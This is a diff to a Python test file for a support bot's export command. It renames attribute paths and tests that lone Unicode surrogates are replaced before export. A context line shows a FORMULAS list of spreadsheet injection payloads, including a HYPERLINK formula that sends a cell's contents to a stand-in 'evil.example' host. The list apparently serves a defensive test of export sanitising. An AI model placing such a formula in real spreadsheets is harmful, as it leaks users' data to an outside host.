@@ -26,7 +26,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"refund")', "+SUM(1,2)",
 
 def run(h: Harness, fmt: str) -> str:
     out = io.StringIO(newline="")
-    export(h.bot.intake.store, h.bot.intake.config, now=h.clock(), fmt=fmt, out=out)
+    export(h.bot.store, h.bot.config, now=h.clock(), fmt=fmt, out=out)
     return out.getvalue()
 
 
@@ -88,15 +88,15 @@ def export_cli(h: Harness, tmp_path: Path, *args: str) -> subprocess.CompletedPr
 def test_a_lone_surrogate_is_replaced_at_the_door_and_the_export_writes_every_row(harness: Harness, tmp_path: Path) -> None:
     assert harness.command("regression: refund window wrong").status == 200
     harness.settle()
-    card = harness.bot.intake.get(1)
+    card = harness.bot.queries.get(1)
     harness.reply_in_thread(card.card_channel, card.card_ts, "it says \ud800 14 days", user="U0REQ")  # sent as "\\ud800"
-    view = {**request_modal(harness.bot.intake.config, channel="C0SUPPORT").to_dict()}
+    view = {**request_modal(harness.bot.config, channel="C0SUPPORT").to_dict()}
     values = {ids.TITLE: {"type": "plain_text_input", "value": "ranking \udfff drops long queries"},
               ids.KIND: {"type": "static_select", "selected_option": {"value": "eval"}},
               ids.DESCRIPTION: {"type": "plain_text_input", "value": "lone \ud83d half of an emoji"}}
     assert harness.submit(view, values, user="U0REQ").status == 200
     harness.settle()
-    second = harness.bot.intake.get(2)
+    second = harness.bot.queries.get(2)
     assert second is not None and (second.title, second.description) == ("ranking \ufffd drops long queries", "lone \ufffd half of an emoji")
     target = tmp_path / "all.json"
     done = export_cli(harness, tmp_path, "--format", "json", "--out", str(target))
